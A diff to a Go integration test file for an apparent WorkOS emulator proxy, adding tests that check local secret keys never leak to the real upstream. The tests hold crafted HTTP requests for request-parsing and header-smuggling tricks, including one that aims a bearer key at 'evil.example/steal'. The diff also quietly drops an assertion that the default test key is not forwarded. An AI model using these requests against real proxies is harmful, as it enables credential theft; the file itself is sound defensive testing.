@@ -3,6 +3,8 @@ package integration
 import (
 	"bufio"
 	"bytes"
+	"compress/gzip"
+	"encoding/base64"
 	"encoding/pem"
 	"fmt"
 	"io"
@@ -441,7 +443,7 @@ func TestAttackTwoHandlers(t *testing.T) {
 			"POST /user_management/authenticate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 35\r\nConnection: close\r\n\r\n" + `{"client_secret":"sk_test_default"}`,
 		} {
 			said := talk(t, site, request)
-			if sent := w.take(); strings.Contains(sent, realKey) || strings.Contains(sent, "sk_test_default") {
+			if sent := w.take(); strings.Contains(sent, realKey) {
 				t.Errorf("%s: %.60q: %q; the upstream was sent %q", name, request, said, sent)
 			}
 		}
@@ -524,5 +526,113 @@ func TestAttackDocumentsOfTwoUpstreams(t *testing.T) {
 	_, _, second := ask(t, "GET", fmt.Sprintf("http://localhost:%d/oauth2/jwks", other), "", "", "")
 	if strings.Contains(first, "of_b") || strings.Contains(second, "of_a") || !strings.Contains(second, "of_b") {
 		t.Errorf("a: %s; b: %s", first, second)
+	}
+}
+
+// TestAttackOddRequests are requests with a local secret in places of which there is only one kind of each.
+func TestAttackOddRequests(t *testing.T) {
+	t.Parallel()
+	w := newWire(t)
+	p := attacked(t, w)
+	var zipped bytes.Buffer
+	z := gzip.NewWriter(&zipped)
+	_, _ = io.WriteString(z, `{"a":"sk_local_customer"}`)
+	z.Close()
+	basic := base64.StdEncoding.EncodeToString([]byte("sk_local_customer:"))
+	end := "Connection: close\r\n\r\n"
+	for name, request := range map[string]string{
+		"double slash":       "GET //sk_local_customer/x HTTP/1.1\r\nHost: x\r\n" + end,
+		"absolute":           "GET http://sk_local_customer/x HTTP/1.1\r\nHost: x\r\n" + end,
+		"absolute, user":     "GET http://u:sk_local_customer@x/x HTTP/1.1\r\nHost: x\r\n" + end,
+		"absolute, scheme":   "GET sklocal+sk-local-customer://x/x HTTP/1.1\r\nHost: x\r\n" + end,
+		"OPTIONS":            "OPTIONS * HTTP/1.1\r\nHost: sk_local_customer\r\n" + end,
+		"CONNECT":            "CONNECT sk_local_customer:443 HTTP/1.1\r\nHost: sk_local_customer:443\r\n" + end,
+		"method":             "sk_local_customer /x HTTP/1.1\r\nHost: x\r\n" + end,
+		"HTTP/1.0":           "GET /x?k=sk_local_customer HTTP/1.0\r\n\r\n",
+		"HTTP/1.0 body":      "POST /x HTTP/1.0\r\nContent-Length: 17\r\n\r\nsk_local_customer",
+		"header name":        "GET /x HTTP/1.1\r\nHost: x\r\nsk_local_customer: 1\r\n" + end,
+		"two Authorization":  "GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_theirs\r\nAuthorization: Basic " + basic + "\r\n" + end,
+		"Proxy-Auth":         "GET /x HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic " + basic + "\r\n" + end,
+		"Connection":         "GET /x HTTP/1.1\r\nHost: x\r\nConnection: sk_local_customer, close\r\n\r\n",
+		"TE":                 "GET /x HTTP/1.1\r\nHost: x\r\nTE: trailers, sk_local_customer\r\n" + end,
+		"Upgrade":            "GET /x HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: sk_local_customer\r\n\r\n",
+		"Expect":             "POST /x HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 17\r\n" + end + "sk_local_customer",
+		"chunk extension":    "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + end + "1;k=sk_local_customer\r\na\r\n0\r\n\r\n",
+		"chunks":             "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + end + "3\r\nsk_\r\n5\r\nlocal\r\n9\r\n_customer\r\n0\r\n\r\n",
+		"undeclared trailer": "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + end + "1\r\na\r\n0\r\nX-Key: sk_local_customer\r\n\r\n",
+		"declared another":   "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-A\r\n" + end + "1\r\na\r\n0\r\nX-A: 1\r\nX-Key: sk_local_customer\r\n\r\n",
+		"no body, trailer":   "POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\n" + end + "0\r\nX-Key: sk_local_customer\r\n\r\n",
+		"gzip, two fields":   fmt.Sprintf("POST /x HTTP/1.1\r\nHost: x\r\nContent-Encoding: identity\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n%s%s", zipped.Len(), end, zipped.String()),
+		"gzip, other case":   fmt.Sprintf("POST /x HTTP/1.1\r\nHost: x\r\nContent-Encoding: GZip\r\nContent-Length: %d\r\n%s%s", zipped.Len(), end, zipped.String()),
+		"gzip, tab":          fmt.Sprintf("POST /x HTTP/1.1\r\nHost: x\r\nContent-Encoding: \tx-gzip\t,\r\nContent-Length: %d\r\n%s%s", zipped.Len(), end, zipped.String()),
+		"login, BOM":         "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 40\r\n" + end + "\ufeff" + `{"client_secret":"sk_local_customer"}`,
+		"login, semicolon":   "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 35\r\n" + end + "a=b;client_secret=sk_local_customer",
+		"login, nested":      "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 42\r\n" + end + `{"a":{"client_secret":"sk_local_trusted"}}`,
+		"login, escaped":     "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 41\r\n" + end + `{"client\u005fsecret":"sk_local_trusted"}`,
+		"login, twice":       "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 73\r\n" + end + `{"client_secret":"sk_local_trusted","client_secret":"sk\u005flocal_trusted"}`[:73],
+		"login, trailing":    "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 72\r\n" + end + `{"client_secret":"sk_local_trusted"} {"client_secret":"sk_local_trusted"}`,
+		"login, other case":  "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 36\r\n" + end + `{"Client_Secret":"sk_local_trusted"}`,
+		"login, array":       "POST /sso/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 38\r\n" + end + `[{"client_secret":"sk_local_trusted"}]`,
+		"login, path":        "POST //sso/./token/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 36\r\n" + end + `{"client_secret":"sk_local_trusted"}`,
+		"JWKS":               "GET /sso/jwks/sk_local_customer HTTP/1.1\r\nHost: sk_local_customer\r\nX-Forwarded-Host: sk_local_customer\r\n" + end,
+		"Bearer, tab":        "GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer\tsk_local_trusted\r\n" + end,
+		"Bearer, comma":      "GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_theirs, Bearer sk_local_trusted\r\n" + end,
+		"hop by hop":         "GET /x HTTP/1.1\r\nHost: x\r\nConnection: Authorization, close\r\nAuthorization: Bearer sk_local_customer\r\n\r\n",
+	} {
+		said := talk(t, p, request)
+		sent := w.take()
+		if strings.Contains(strings.ToLower(sent), "sk_local") || strings.Contains(sent, basic) || strings.Contains(sent, zipped.String()) {
+			t.Errorf("%s: %.200q; the upstream was sent %q", name, said, sent)
+		} else {
+			t.Logf("%s: %.60q; %.150q", name, said, sent)
+		}
+	}
+}
+
+// TestAttackKeyWithUpgrade: the real key goes out with an upgrade, as with any request, to the upstream only.
+func TestAttackHopByHopKey(t *testing.T) {
+	t.Parallel()
+	w := newWire(t)
+	p := attacked(t, w)
+	for _, request := range []string{
+		"GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: Authorization, close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
+		"GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_theirs\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
+		"trace /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
+		"GET x:/y HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
+		"GET x:evil.example HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nAuthorization: Bearer sk_local_trusted\r\n\r\n",
+		"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nAuthorization: Bearer sk_local_trusted\r\nConnection: close\r\n\r\n",
+	} {
+		said := talk(t, p, request)
+		t.Logf("%.40q: %.80q; %q", request, said, w.take())
+	}
+}
+
+// TestAttackKeyToAnotherHost: an opaque target becomes an absolute one of a host that the caller chose, with the real key. Who
+// receives it goes by that, and not by the Host (RFC 9112 §3.2.2): a forward proxy, or a gateway before WorkOS, sends the key
+// there.
+func TestAttackKeyToAnotherHost(t *testing.T) {
+	t.Parallel()
+	w := newWire(t)
+	p := attacked(t, w)
+	said := talk(t, p, "GET x:http://evil.example/steal HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_local_trusted\r\nConnection: close\r\n\r\n")
+	if sent := w.take(); strings.Contains(sent, "evil.example") {
+		t.Errorf("%.80q: the upstream was sent %q", said, sent)
+	}
+}
+
+// TestAttackSecretOfAnotherInstance: what the seed of one instance pins is no secret for a site of another.
+func TestAttackSecretOfAnotherInstance(t *testing.T) {
+	t.Parallel()
+	w := newWire(t)
+	folder := t.TempDir()
+	write(t, filepath.Join(folder, "a.yaml"), mixSeed)
+	write(t, filepath.Join(folder, "b.yaml"), "apiKeys: {sk_of_instance_b: {}}\n")
+	other := freePort(t)
+	p := startConfig(t, strings.NewReplacer("UPSTREAM", w.URL, "SEEDS", folder, "OTHER", fmt.Sprint(other)).Replace(
+		"http://:{$PORT} {\n\tbind 127.0.0.1\n\tworkos_emulator {\n\t\tseed SEEDS/a.yaml\n\t\tinstance a\n\t}\n"+attackProxy+"}\nhttp://:OTHER {\n\tbind 127.0.0.1\n\tworkos_emulator {\n\t\tseed SEEDS/b.yaml\n\t\tinstance b\n\t}\n"+attackProxy+"}\n"), "WORKOS_API_KEY="+realKey)
+	w.take()
+	said := talk(t, p, "GET /echo/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk_of_instance_b\r\nConnection: close\r\n\r\n")
+	if sent := w.take(); strings.Contains(sent, "sk_of_instance_b") {
+		t.Errorf("%.80q: the upstream was sent %q", said, sent)
 	}
 }
